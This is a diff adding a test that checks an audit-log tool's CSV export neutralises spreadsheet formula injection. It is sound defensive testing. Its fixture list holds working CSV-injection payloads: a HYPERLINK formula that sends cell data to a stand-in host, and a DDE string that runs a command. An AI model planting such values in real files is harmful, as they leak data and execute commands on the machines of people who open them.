@@ -1065,6 +1065,41 @@ def test_export_csv_gives_exactly_the_records_of_the_range(ten_records: Path) ->
                             "WHERE record_type = 'audit_read'") == [(2,)]
 
 
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    """A caller's text (purpose, X-Request-ID, a key's name) went into the CSV as it was:
+    opened in a spreadsheet, `=HYPERLINK(...)` ran as a formula (OWASP CSV injection)."""
+    db = tmp_path / "facts.sqlite3"
+    store = open_store(f"sqlite:///{db}")
+    log = AuditLog(store.engine)
+    evil = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "plain", "mid=dle"]
+    log.write([AuditRecord(
+        "decision", f"{n:032x}", to_micros(BASE + n * timedelta(seconds=1)), user_id="u-1",
+        client_id="c-1", purpose=text, decision=False, reason="purpose_invalid",
+        facts_version=-n, request_id=text, caller=text) for n, text in enumerate(evil)])
+    log.stop()
+    store.close()
+
+    out = tmp_path / "export.csv"
+    done = pdp_cli(db, "audit", "export", "--until", FUTURE, "--format", "csv",
+                   "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    with out.open(newline="", encoding="utf-8") as exported:
+        rows = [r for r in csv.DictReader(exported) if r["record_type"] == "decision"]
+    for field in ("purpose", "request_id", "caller"):
+        assert [r[field] for r in rows] == [
+            ("'" + text) if text[0] in "=+-@\t\r" else text for text in evil], field
+    assert [r["facts_version"] for r in rows] == [str(-n) for n in range(len(evil))]
+    for row in rows:
+        for cell in row.values():
+            assert not cell or (cell[0] not in "=+@\t\r" and not (
+                cell[0] == "-" and not cell.lstrip("-").isdigit())), cell
+    # JSONL keeps every value exactly
+    exact = pdp_cli(db, "audit", "export", "--until", FUTURE, "--format", "jsonl")
+    lines = [json.loads(line) for line in exact.stdout.splitlines()]
+    assert [r["purpose"] for r in lines if r["record_type"] == "decision"] == evil
+
+
 def _export_peak(log: AuditLog, fmt: str) -> tuple[int, int]:
     for _ in log.export(until_us=0, fmt=fmt):  # warm up: compiled statements, connections
         pass
